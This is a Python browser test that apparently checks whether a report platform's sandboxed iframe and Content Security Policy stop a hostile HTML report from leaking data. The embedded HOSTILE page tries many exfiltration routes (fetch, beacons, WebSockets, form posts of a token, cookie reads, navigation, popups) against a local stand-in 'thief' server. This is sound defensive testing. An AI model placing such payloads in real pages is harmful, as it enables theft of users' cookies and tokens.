"""A report that somebody else wrote, in a real browser: it shows, and nothing leaves the page."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from browser import chromium
from playwright.sync_api import Page
from served_api import served, wait_for_rollouts
from trained_run import write_run

from rubricworks.platform_api.settings import ApiSettings

pytestmark = pytest.mark.slow
HOSTILE = """<!doctype html><title>Report</title><h1>Report</h1>
<link rel="stylesheet" href="{thief}/style"><link rel="prefetch" href="{thief}/prefetch">
<img src="{thief}/image"><script src="{thief}/script"></script><iframe src="{thief}/frame"></iframe>
<form id="form" action="{thief}/form"><input name="token" value="typed"></form>
<a id="link" href="{thief}/link" ping="{thief}/ping">link</a><a id="top" target="_top" href="{thief}/top">top</a>
<script>
const reached = (name) => document.body.append(" ran:" + name);
const tries = {{
  fetch: () => fetch("{thief}/fetch").catch(() => 0),
  own: () => fetch("/api/v1/runs").then(() => reached("api")).catch(() => 0),
  beacon: () => navigator.sendBeacon("{thief}/beacon"),
  socket: () => new WebSocket("{thief}/socket".replace("http", "ws")),
  events: () => new EventSource("{thief}/events"), popup: () => window.open("{thief}/popup"),
  form: () => form.submit(), top: () => document.getElementById("top").click(),
  parent: () => {{ parent.location = "{thief}/parent"; }},
  cookies: () => reached("cookies " + document.cookie), worker: () => new Worker("{thief}/worker"),
}};
for (const attempt of Object.values(tries)) {{ try {{ attempt(); }} catch {{ }} }}
setTimeout(() => {{ document.body.append(" done"); setTimeout(() => {{ {leave}; }}, 1000); }}, 300);
</script>"""


@pytest.fixture
def thief() -> Iterator[ThreadingHTTPServer]:
    """A server that notes what is asked of it."""

    class Noting(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.server.asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Noting)
    server.asked = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()


@pytest.fixture
def page() -> Iterator[Page]:
    with chromium() as browser:
        yield browser.new_page()


@pytest.mark.parametrize("leave", ["location = '{thief}/?typed'", "document.getElementById('link').click()"])
def test_a_hostile_report_shows_and_reaches_nobody(leave, page, thief, tmp_path):
    address = f"http://127.0.0.1:{thief.server_port}"
    hostile = HOSTILE.format(thief=address, leave=leave.format(thief=address))
    (write_run(tmp_path) / "report.html").write_text(hostile)
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text))
    with served(ApiSettings(storage=str(tmp_path), index_seconds=0.05)) as url:
        wait_for_rollouts(url)
        page.goto(f"{url}/runs/today-1/report/content")
        page.wait_for_url("**/runs/today-1/report")  # a page of its own could lead elsewhere
        report = page.frame_locator("iframe.written")
        report.get_by_text("done").wait_for(timeout=120_000)
        text = report.locator("body").inner_text()
        with page.expect_event("console", lambda message: "Framing" in message.text, timeout=120_000):
            pass  # the frame was led elsewhere, which the policy of the page around it does not allow
        assert page.url == f"{url}/runs/today-1/report"
        assert "ran:" not in text
    assert thief.asked == []
    assert len(page.context.pages) == 1
    assert any("Content Security Policy" in line for line in refused)
